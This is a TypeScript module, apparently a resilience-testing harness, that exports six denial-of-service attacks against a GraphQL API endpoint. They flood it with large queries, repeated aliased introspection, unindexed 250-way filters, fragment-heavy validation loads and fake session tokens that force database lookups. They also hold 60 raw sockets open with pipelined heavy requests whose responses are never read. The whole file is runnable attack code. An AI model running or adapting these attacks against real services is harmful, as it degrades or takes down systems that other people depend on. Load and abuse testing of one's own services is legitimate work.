import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** Where an attack goes, and whose name it uses. */
export interface Target {
  url: string;
  /** Of a credential that may read everything. */
  token: string;
  /** Of one without a single scope that the attacked resources need. */
  poor: string;
}

/** Something that one client does to have more than its part. It ends when it is told to. */
export interface Attack {
  name: string;
  what: string;
  run(target: Target, isOver: () => boolean): Promise<void>;
}

const repeat = (count: number, make: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => make(n)).join(" ");

const bodyOf = (query: string) => JSON.stringify({ query });

async function post({ url }: Target, token: string, query: string): Promise<void> {
  const response = await fetch(`${url}/api/graphql/unstable`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
    body: bodyOf(query),
  }).catch(() => null);
  // Told to come later, it doesn't wait
  await response?.arrayBuffer().catch(() => {});
  if (!response) await sleep(5);
}

/** Sends documents one after the other, on so many connections at the same time. */
const sending =
  (
    connections: number,
    tokenOf: (target: Target) => string,
    document: (n: number) => string,
  ): Attack["run"] =>
  async (target, isOver) => {
    let count = 0;
    const send = async () => {
      while (!isOver()) await post(target, tokenOf(target), document(count++));
    };
    await Promise.all(Array.from({ length: connections }, send));
  };

const withAccess = ({ token }: Target) => token;
const without = ({ poor }: Target) => poor;
const list = "products { edges { node { id } } }";

export const attacks: Attack[] = [
  {
    name: "documents",
    what: "ever new documents of 10 kB, without a scope",
    run: sending(8, without, (n) => {
      const numbers = repeat(4_800, (i) => String((i + n) % 10));
      return `query Q${n} { products(filter: { availableStock: { in: [${numbers}] } }) { edges { node { id } } } }`;
    }),
  },
  {
    name: "introspection",
    what: "the whole schema, ever anew and many times at once",
    run: sending(8, without, (n) => {
      const types =
        "types { name description fields { name description args { name } } enumValues { name } }";
      if (n % 2) return `{ ${repeat(100, (i) => `a${i}: __schema { ${types} }`)} }`;
      return `query Q${n} { __schema { ${types} } }`;
    }),
  },
  {
    name: "filters",
    what: "250 comparisons that no index answers",
    run: sending(12, withAccess, (n) => {
      const conditions = repeat(250, (i) => `{ lastName: { contains: "no${n}x${i}" } }`);
      return `{ customers(filter: { OR: [${conditions}] }) { edges { node { id } } } }`;
    }),
  },
  {
    name: "validation",
    what: "fragments and equal fields that are compared with each other",
    run: sending(8, without, (n) => {
      const count = n % 2 ? 330 : 160;
      if (n % 4 < 2) return `query Q${n} { ${repeat(count, () => list)} }`;
      const fragments = repeat(count, (i) => `fragment F${i} on Query { __typename }`);
      return `query Q${n} { ${repeat(count, (i) => `...F${i}`)} } ${fragments}`;
    }),
  },
  {
    name: "sessions",
    what: "tokens that the database is asked about, without a credential",
    async run(target, isOver) {
      let count = 0;
      const send = async () => {
        while (!isOver()) await post(target, `as_${String(count++).padStart(43, "x")}`, "{ __typename }");
      };
      await Promise.all(Array.from({ length: 8 }, send));
    },
  },
  {
    name: "unread",
    what: "long answers that nobody reads",
    async run({ url, token }, isOver) {
      const { hostname, port } = new URL(url);
      const long = `{ customers(first: 250) { edges { node { ${repeat(90, (i) => `a${i}: email`)} } } } }`;
      const body = bodyOf(long);
      const sockets = Array.from({ length: 60 }, () => {
        const socket = connect(Number(port), hostname).on("error", () => {});
        socket.pause();
        const head = `POST /api/graphql/unstable HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n`;
        const rest = `Authorization: Bearer ${token}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
        // One after the other on the same connection
        socket.write((head + rest).repeat(20));
        return socket;
      });
      while (!isOver()) await sleep(50);
      for (const socket of sockets) socket.destroy();
    },
  },
];
